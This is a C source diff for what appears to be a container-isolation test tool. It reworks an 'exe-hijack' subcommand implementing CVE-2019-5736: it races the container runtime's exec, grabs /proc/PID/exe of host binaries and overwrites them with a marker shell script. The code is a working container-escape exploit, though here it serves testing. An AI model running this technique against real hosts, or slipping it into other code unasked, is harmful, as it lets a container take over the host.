@@ -792,59 +792,99 @@ static int cmd_swap_race(int argc, char **argv) {
   return 0;
 }
 
-/* exe-hijack SECONDS: CVE-2019-5736.  Watches /proc for processes whose
- * executable is not in this container's filesystem (the runtime joining it for
- * `exec`), opens /proc/PID/exe, then tries to reopen that for writing through
- * /proc/self/fd once the runtime no longer runs it, and writes a marker.
+/* exe-hijack SECONDS [FIFO]: CVE-2019-5736.  Hammers /proc/PID/exe of the newest
+ * pids of this pid namespace (they are handed out in order, so the runtime
+ * joining it for `exec` gets the next one), keeps an fd on every executable that
+ * is not in this container's filesystem, and tries to reopen each for writing
+ * through /proc/self/fd until the deadline (ETXTBSY while the runtime still
+ * runs it).  FIFO: a fifo the hostile program blocks on (to live long enough to
+ * be caught), opened for reading now and then to let it go.
  * Prints what it saw and managed. */
+static long max_pid_now(void) {
+  long max = 0;
+  DIR *d = opendir("/proc");
+  if (!d) return 0;
+  struct dirent *de;
+  while ((de = readdir(d))) {
+    long pid;
+    if (parse_long(de->d_name, &pid) == 0 && pid > max) max = pid;
+  }
+  closedir(d);
+  return max;
+}
+
 static int cmd_exe_hijack(int argc, char **argv) {
   double s;
-  if (argc != 1 || parse_seconds(argv[0], &s) < 0) return usage("exe-hijack SECONDS");
+  if (argc < 1 || argc > 2 || parse_seconds(argv[0], &s) < 0) return usage("exe-hijack SECONDS [FIFO]");
+  const char *fifo = argc == 2 ? argv[1] : NULL;
+  double next_release = 0;
   install_exit_handlers();
-  struct stat root;
-  if (stat("/", &root) < 0) return fail("stat", "/");
+  enum { kMaxPid = 1 << 16, kAhead = 8 };
+  static unsigned char state[kMaxPid]; /* 0 unknown, 1 denied once, 2 done with */
   double end = now_seconds() + s;
-  long seen = 0, opened = 0, denied = 0, written = 0, busy = 0;
+  long denied = 0, opened = 0, written = 0, busy = 0, refused = 0;
   int fds[64];
   int nfds = 0;
-  char seen_pids[65536 / 8] = {0};
-  while (now_seconds() < end) {
-    DIR *d = opendir("/proc");
-    if (!d) return fail("opendir", "/proc");
-    struct dirent *de;
-    while ((de = readdir(d))) {
-      long pid;
-      if (parse_long(de->d_name, &pid) < 0 || pid == getpid() || pid <= 0 || pid >= 65536) continue;
-      if (seen_pids[pid / 8] & (1 << (pid % 8))) continue;
+  long base = max_pid_now();
+  for (unsigned long iter = 0; now_seconds() < end; iter++) {
+    if (iter % 256 == 0) {
+      long now = max_pid_now();
+      if (now > base) base = now;
+    }
+    for (long pid = base - 2; pid <= base + kAhead; pid++) {
+      if (pid <= 1 || pid >= kMaxPid || pid == getpid() || state[pid] == 2) continue;
       char path[64];
       snprintf(path, sizeof path, "/proc/%ld/exe", pid);
       int fd = open(path, O_RDONLY | O_CLOEXEC);
       if (fd < 0) {
-        if (errno == EACCES || errno == EPERM) {
-          seen_pids[pid / 8] |= (char)(1 << (pid % 8));
-          seen++;
+        if ((errno == EACCES || errno == EPERM) && state[pid] == 0) {
+          state[pid] = 1;
           denied++;
         }
         continue;
       }
-      struct stat st;
-      seen_pids[pid / 8] |= (char)(1 << (pid % 8));
-      if (fstat(fd, &st) == 0 && st.st_dev != root.st_dev && nfds < 64) {
-        seen++;
+      /* Foreign: the file it runs is not the one its path names in here. */
+      struct stat st, here;
+      char target[PATH_MAX];
+      ssize_t tn = readlink(path, target, sizeof target - 1);
+      int native = 0;
+      if (tn > 0) {
+        target[tn] = '\0';
+        native = stat(target, &here) == 0 && fstat(fd, &st) == 0 && here.st_dev == st.st_dev &&
+                 here.st_ino == st.st_ino;
+      }
+      if (!native && nfds < 64) {
         opened++;
         fds[nfds++] = fd;
       } else {
         close(fd);
       }
+      state[pid] = 2;
+      if (pid > base) base = pid;
     }
-    closedir(d);
+    if (fifo && now_seconds() > next_release) {
+      int r = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+      if (r >= 0) {
+        char buf[4096];
+        usleep(2000);
+        while (read(r, buf, sizeof buf) > 0) {}
+        close(r);
+      }
+      next_release = now_seconds() + 0.05;
+    }
     for (int i = 0; i < nfds; i++) {
       if (fds[i] < 0) continue;
       char path[64];
       snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
       int w = open(path, O_WRONLY | O_CLOEXEC);
       if (w < 0) {
-        if (errno == ETXTBSY) busy++;
+        if (errno == ETXTBSY) {
+          busy++;
+        } else {
+          refused++;
+          close(fds[i]);
+          fds[i] = -1;
+        }
         continue;
       }
       static const char marker[] = "#!/bin/sh\necho guise-5736-pwned\n";
@@ -854,7 +894,7 @@ static int cmd_exe_hijack(int argc, char **argv) {
       fds[i] = -1;
     }
   }
-  printf("seen %ld\nopened %ld\ndenied %ld\nbusy %ld\nwritten %ld\n", seen, opened, denied, busy, written);
+  printf("denied %ld\nopened %ld\nbusy %ld\nrefused %ld\nwritten %ld\n", denied, opened, busy, refused, written);
   return 0;
 }
 
